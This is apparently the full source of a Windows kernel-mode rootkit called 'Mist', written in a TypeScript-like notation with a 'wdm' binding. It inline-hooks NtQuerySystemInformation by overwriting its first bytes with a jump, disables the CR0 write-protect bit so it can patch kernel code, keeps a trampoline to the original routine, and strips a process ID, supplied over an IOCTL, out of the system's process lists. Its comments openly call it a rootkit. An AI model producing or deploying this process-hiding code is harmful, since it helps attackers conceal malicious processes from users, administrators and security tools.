/*
 * Mist: hides a process by a jump at the beginning of a routine of the kernel.
 *
 * No table leads elsewhere, no pointer was changed: the first twelve bytes of NtQuerySystemInformation
 * are another instruction, which jumps into the driver. What stood there is kept in executable memory,
 * followed by a jump behind it, a trampoline: calling that is calling the routine as it was.
 */
import {
  CTL_CODE,
  DISPATCH_LEVEL,
  DbgPrint,
  ExAllocatePool2,
  ExFreePoolWithTag,
  FALSE,
  FILE_ANY_ACCESS,
  FILE_DEVICE_SECURE_OPEN,
  FILE_DEVICE_UNKNOWN,
  IO_NO_INCREMENT,
  IRP_MJ_CLOSE,
  IRP_MJ_CREATE,
  IRP_MJ_DEVICE_CONTROL,
  IoCompleteRequest,
  IoCreateDevice,
  IoCreateSymbolicLink,
  IoDeleteDevice,
  IoDeleteSymbolicLink,
  IoGetCurrentIrpStackLocation,
  KeLowerIrql,
  KeRaiseIrql,
  METHOD_BUFFERED,
  MmGetSystemRoutineAddress,
  NT_SUCCESS,
  POOL_FLAG_NON_PAGED_EXECUTE,
  RTL_CONSTANT_STRING,
  STATUS_INSUFFICIENT_RESOURCES,
  STATUS_INVALID_DEVICE_REQUEST,
  STATUS_INVALID_PARAMETER,
  STATUS_NOT_FOUND,
  STATUS_SUCCESS,
  SYSTEM_PROCESS_INFORMATION,
  SYSTEM_SERVICE,
  SystemProcessInformation,
  ULONG_PTR,
  __readcr0,
  __writecr0,
  cast,
  out,
} from 'wdm'
import type {
  DEVICE_OBJECT,
  DRIVER_OBJECT,
  IRP,
  NTSTATUS,
  PVOID,
  ULONG,
  ULONGLONG,
  UNICODE_STRING,
  KIRQL,
} from 'wdm'

const IOCTL_HIDE = CTL_CODE(FILE_DEVICE_UNKNOWN, 0x800, METHOD_BUFFERED, FILE_ANY_ACCESS)
const TAG = 'tsiM'
/** mov rax, imm64; jmp rax. The instructions of the routine end at twelve bytes as well. */
const JUMP_BYTES = 12
const CR0_WP = 0x10000n
const DeviceName = RTL_CONSTANT_STRING('\\Device\\Mist')
const LinkName = RTL_CONSTANT_STRING('\\??\\Mist')
const RoutineName = RTL_CONSTANT_STRING('NtQuerySystemInformation')

/** The process that no list shows. */
let hiddenId: ULONG = 0
/** NtQuerySystemInformation, whose beginning is ours; null while it is as it was. */
let target: PVOID = null
let trampoline: PVOID = null
let original: SYSTEM_SERVICE = null

export function DriverEntry(DriverObject: DRIVER_OBJECT, RegistryPath: UNICODE_STRING): NTSTATUS {
  DriverObject.MajorFunction[IRP_MJ_CREATE] = MistCreateClose
  DriverObject.MajorFunction[IRP_MJ_CLOSE] = MistCreateClose
  DriverObject.MajorFunction[IRP_MJ_DEVICE_CONTROL] = MistDeviceControl
  DriverObject.DriverUnload = MistUnload
  const device = out<DEVICE_OBJECT>()
  let status = IoCreateDevice(
    DriverObject,
    0,
    DeviceName,
    FILE_DEVICE_UNKNOWN,
    FILE_DEVICE_SECURE_OPEN,
    FALSE,
    device,
  )
  if (!NT_SUCCESS(status)) return status
  status = IoCreateSymbolicLink(LinkName, DeviceName)
  if (!NT_SUCCESS(status)) IoDeleteDevice(device.value)
  return status
}

/** Write `mov rax, Address; jmp rax`. */
function WriteJump(at: PVOID, Address: ULONGLONG): void {
  at.u8[0] = 0x48
  at.u8[1] = 0xb8
  at.add(2).u64[0] = Address
  at.u8[10] = 0xff
  at.u8[11] = 0xe0
}

/** Code is read-only; the processor looks away while CR0.WP is clear. Nobody may come in between. */
function OpenCode(): KIRQL {
  const old = out<KIRQL>()
  KeRaiseIrql(DISPATCH_LEVEL, old)
  __writecr0(__readcr0() & ~CR0_WP)
  return old.value
}

function CloseCode(Irql: KIRQL): void {
  __writecr0(__readcr0() | CR0_WP)
  KeLowerIrql(Irql)
}

function Install(): NTSTATUS {
  if (target !== null) return STATUS_SUCCESS
  const routine = MmGetSystemRoutineAddress(RoutineName)
  if (routine === null) return STATUS_NOT_FOUND
  trampoline = ExAllocatePool2(POOL_FLAG_NON_PAGED_EXECUTE, 2 * JUMP_BYTES, TAG)
  if (trampoline === null) return STATUS_INSUFFICIENT_RESOURCES
  for (let i = 0; i < JUMP_BYTES; i++) trampoline.u8[i] = routine.u8[i]
  WriteJump(trampoline.add(JUMP_BYTES), cast(ULONG_PTR, routine.add(JUMP_BYTES)))
  original = cast(SYSTEM_SERVICE, trampoline)

  const hook: SYSTEM_SERVICE = MistQuerySystemInformation
  const irql = OpenCode()
  WriteJump(routine, cast(ULONG_PTR, hook))
  CloseCode(irql)
  target = routine
  DbgPrint('Mist: the routine at %p begins with a jump\n', routine)
  return STATUS_SUCCESS
}

/** NtQuerySystemInformation, as everybody calls it from now on. */
function MistQuerySystemInformation(
  SystemInformationClass: PVOID,
  SystemInformation: PVOID,
  SystemInformationLength: PVOID,
  ReturnLength: PVOID,
): NTSTATUS {
  const status = original(
    SystemInformationClass,
    SystemInformation,
    SystemInformationLength,
    ReturnLength,
    null,
    null,
    null,
    null,
    null,
    null,
    null,
  )
  const kind = cast(ULONG_PTR, SystemInformationClass)
  if (NT_SUCCESS(status) && kind === BigInt(SystemProcessInformation)) Hide(SystemInformation)
  return status
}

/** Entries follow each other by distances: the one in front gets the distance to the one behind. */
function Hide(First: PVOID): void {
  try {
    let entry = cast(SYSTEM_PROCESS_INFORMATION, First)
    while (entry.NextEntryOffset !== 0) {
      const next = cast(SYSTEM_PROCESS_INFORMATION, entry.add(entry.NextEntryOffset))
      if (next.UniqueProcessId !== hiddenId) entry = next
      else if (next.NextEntryOffset === 0) entry.NextEntryOffset = 0
      else entry.NextEntryOffset = entry.NextEntryOffset + next.NextEntryOffset
    }
  } catch {
    // The buffer went away meanwhile: then nobody reads it either.
  }
}

/** Put the bytes back. Who is in the hook or the trampoline just now is unlucky; rootkits stay. */
function Remove(): void {
  if (target === null) return
  const irql = OpenCode()
  for (let i = 0; i < JUMP_BYTES; i++) target.u8[i] = trampoline.u8[i]
  CloseCode(irql)
  ExFreePoolWithTag(trampoline, TAG)
  target = null
}

function MistDeviceControl(DeviceObject: DEVICE_OBJECT, Irp: IRP): NTSTATUS {
  const request = IoGetCurrentIrpStackLocation(Irp).Parameters.DeviceIoControl
  if (request.IoControlCode !== IOCTL_HIDE) return Complete(Irp, STATUS_INVALID_DEVICE_REQUEST)
  if (request.InputBufferLength < 4) return Complete(Irp, STATUS_INVALID_PARAMETER)
  hiddenId = Irp.AssociatedIrp.SystemBuffer.u32[0]
  return Complete(Irp, Install())
}

function MistCreateClose(DeviceObject: DEVICE_OBJECT, Irp: IRP): NTSTATUS {
  return Complete(Irp, STATUS_SUCCESS)
}

function Complete(Irp: IRP, Status: NTSTATUS): NTSTATUS {
  Irp.IoStatus.Status = Status
  Irp.IoStatus.Information = 0
  IoCompleteRequest(Irp, IO_NO_INCREMENT)
  return Status
}

function MistUnload(DriverObject: DRIVER_OBJECT): void {
  Remove()
  IoDeleteSymbolicLink(LinkName)
  IoDeleteDevice(DriverObject.DeviceObject)
}
